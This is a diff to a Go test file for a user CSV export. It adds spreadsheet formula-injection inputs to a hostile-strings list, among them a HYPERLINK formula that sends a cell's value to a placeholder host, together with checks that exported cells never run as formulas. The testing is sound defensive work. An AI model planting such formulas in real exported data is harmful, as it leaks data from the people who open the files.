@@ -39,6 +39,9 @@ var hostileStrings = []string{
 	"ls\u2028ps\u2029", "tag\U000E0041", "emoji😀", "repl\ufffd", "bad\xff\xfe", "cut\xe2\x82",
 	"surrogate\xed\xa0\x80", "overlong\xc0\xaf", " lead space", "\u00a0nbsp", "\u3000ideo",
 	`\.`, "a,b", "dagný.hansen+1@team-35.example.org", "\x1b[2J",
+	// Formulas, and text that only looks escaped.
+	"=1+1", `=HYPERLINK("http://x/?"&A1)`, "+1", "-bob@x.org", "@SUM(A1)", "\t=1", "\r=1", "\x00=1",
+	"'=1", "''-x", "'", "'plain", "=a,b", "-\"q\"", "'\r\n=", "-a\nb", "\n=1", "@\r",
 }
 
 // sampleUsers covers every field's forms: no roles, several, zero and set
@@ -62,6 +65,10 @@ func sampleUsers() []user.User {
 			u.Roles = []user.Role{"analyst"}
 			u.CreatedAt = time.Time{}
 			u.LockedUntil = time.Date(-1, 1, 1, 0, 0, 0, 0, time.UTC)
+			// A year before 1 formats with a leading minus, which a
+			// spreadsheet would compute with.
+			u.UpdatedAt = time.Date(-12, 3, 4, 5, 6, 7, 0, time.UTC)
+			u.LastLoginAt = time.Date(10001, 1, 1, 0, 0, 0, 0, time.UTC)
 		}
 		users = append(users, u)
 	}
@@ -92,8 +99,16 @@ func checkAppendUser(t *testing.T, u user.User) {
 	if err := cw.Error(); err != nil {
 		t.Fatal(err)
 	}
-	if got := appendUserCSV(nil, u); !bytes.Equal(got, ref.Bytes()) {
+	got := appendUserCSV(nil, u)
+	if !bytes.Equal(got, ref.Bytes()) {
 		t.Errorf("appendUserCSV(%+v) = %q; want %q", u, got, ref.Bytes())
+	}
+	for _, row := range rawCells(t, string(got)) {
+		for _, cell := range row {
+			if formulaCell(cell) {
+				t.Errorf("appendUserCSV(%+v) = %q: cell %q runs as a formula", u, got, cell)
+			}
+		}
 	}
 }
 
@@ -171,7 +186,7 @@ func TestUserWriterStreams(t *testing.T) {
 func writeUsers(t *testing.T, f format, users []user.User) string {
 	t.Helper()
 	var out bytes.Buffer
-	w := newUserWriter(&out, f)
+	w := newUserWriter(&out, f, false)
 	for _, u := range users {
 		if err := w.Write(u); err != nil {
 			t.Fatal(err)
@@ -204,4 +219,16 @@ func FuzzAppendUser(f *testing.F) {
 		checkJSONString(t, email)
 		checkAppendUser(t, u)
 	})
+}
+
+// BenchmarkAppendUserCSV is the per-row cost of a CSV listing: a typical
+// user, whose cells need no formula escape.
+func BenchmarkAppendUserCSV(b *testing.B) {
+	at := time.Date(2026, 1, 2, 3, 4, 5, 678_000_000, time.UTC)
+	u := user.User{ID: "0190b5c4-b11b-7b9e-9313-373b6743a848", Email: "dagny.hansen+1@team-35.example.org",
+		Roles: []user.Role{user.RoleAnalyst}, CreatedAt: at, UpdatedAt: at, LastLoginAt: at}
+	var buf []byte
+	for b.Loop() {
+		buf = appendUserCSV(buf[:0], u)
+	}
 }
